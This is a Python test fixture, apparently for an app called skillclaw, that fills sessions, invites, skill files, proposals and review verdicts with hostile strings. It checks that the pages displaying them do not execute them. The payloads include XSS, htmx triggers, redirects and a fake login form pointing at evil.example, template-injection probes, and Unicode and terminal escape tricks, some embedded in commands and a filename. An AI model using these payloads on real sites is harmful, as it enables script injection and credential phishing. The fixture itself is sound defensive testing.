"""A machine on which everything that others write, they wrote to take over the page that shows it."""

from __future__ import annotations

from pathlib import Path

from atif_sessions import Ran, session, write
from team import found, hub, invited, joined, sc

from skillclaw.skills.records import Bundle, File, Proposal, Verdict

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg/onload=window.hit=1>',
    "' autofocus onfocus=window.hit=1 x='",
    "</textarea></title></style></pre><script>window.hit=1</script>",
    "<a href='javascript:window.hit=1'>Approve</a>",
    "[Approve](javascript:window.hit=1) ![x](http://evil.example/x.png)",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<div hx-get='http://evil.example/' hx-trigger='load'>x</div>",
    "<body hx-on:load='window.hit=1' data-key='a'>",
    "<base href='http://evil.example/'><form action='http://evil.example'><button>Log in</button></form>",
    "<iframe src='javascript:parent.hit=1'></iframe><link rel=stylesheet href=http://evil.example/a.css>",
    "<style>*{display:none}</style><!-- ]]> seven{{7*7}}seven ${7*7} {% if 1 %}",
    "\u202egnp.tpircs\u202c\u200b\x1b[31m \ufeff<plaintext>",
)
MARK = "window.hit"
SKILL = "house-rules"


def hostile_house(place: Path) -> Path:
    """Such a machine, Ada's, below `place`; her home. What cannot be said by the commands is put into the hub
    as a member's or evolver's own program could."""
    user = place / "ada"
    _sessions(place)
    found(place)
    for who in ("bob", "cyd"):
        joined(place, who)
    for payload in PAYLOADS[:4]:
        invited(place, payload[:60])
    _skill(place)
    sc(place, "ada", "sync")
    return user


def _sessions(place: Path) -> None:
    """Sessions of several people, of one kind each, so that patterns are found in them."""
    made = []
    for number, payload in enumerate(PAYLOADS):
        for user in ("u1", "u2", "u3"):
            ran = (
                Ran(f"cat '{payload}.txt'", 1, f"error: externally-managed-environment {payload}"),
                Ran("python3 -m venv .venv", 0, payload),
                Ran(f".venv/bin/pip install {payload}", 0, f"Successfully installed {payload}"),
            )
            one = session(f"{user}{payload}", number, f"install httpie {payload}", ran, project=payload)
            one["session_id"] = f"{user}-{number}"
            one["steps"][-1]["message"] = f"Done. {payload}"
            one["steps"][-1]["reasoning_content"] = payload
            made.append(one)
    (place / "ada").mkdir(parents=True)
    skills = place / "ada" / "skills"
    skills.mkdir()
    sc(place, "ada", "config", "set", "sync.targets", f'["{skills.as_posix()}"]')
    sc(place, "ada", "import", str(write(place / "ada" / "hostile.jsonl", made)))
    sc(place, "ada", "evolve")
    for row, payload in zip(sc(place, "ada", "sessions", "list"), PAYLOADS, strict=False):
        sc(place, "ada", "feedback", row["id"], "bad", "--note", payload)


def _skill(place: Path) -> None:
    """A skill of the group, released, and a change of it that waits: all their texts are hostile."""
    group = hub(place)
    for number, stage in enumerate(("released", "held")):
        body = "\n\n".join(f"- Line {number}. {payload}" for payload in PAYLOADS)
        head = f"---\nname: {SKILL}\ndescription: '{PAYLOADS[0]} {PAYLOADS[1]}'\n---\n# {PAYLOADS[2]}"
        files = [
            File(path="SKILL.md", data=f"{head}\n\n{body}\n".encode()),
            File(path="notes/' autofocus onfocus=window.hit=1 x='.md", data=PAYLOADS[0].encode()),
        ]
        base = group.state().skills[SKILL].current if number else None
        proposal = Proposal(
            id=f"{number}" * 16,
            action="refine" if number else "create",
            skill=SKILL,
            base=base,
            engine="extractive",
            why=" ".join(PAYLOADS[:6]),
            bundle=Bundle(name=SKILL, files=files),
        )
        group.propose(proposal)
        verdicts = [
            Verdict(check="spec", verdict="pass", reason=PAYLOADS[1]),
            Verdict(check="scan", verdict="hold" if number else "pass", reason=PAYLOADS[5]),
        ]
        group.record_verdicts(proposal.id, verdicts, "held" if number else "passed")
        if stage == "released":
            group.release(proposal.id, stage="canary")
            group.promote(SKILL)
    sc(place, "bob", "proposals", "vote", "1" * 16, "against", "--why", PAYLOADS[0])
    sc(place, "ada", "hub", "inbox")
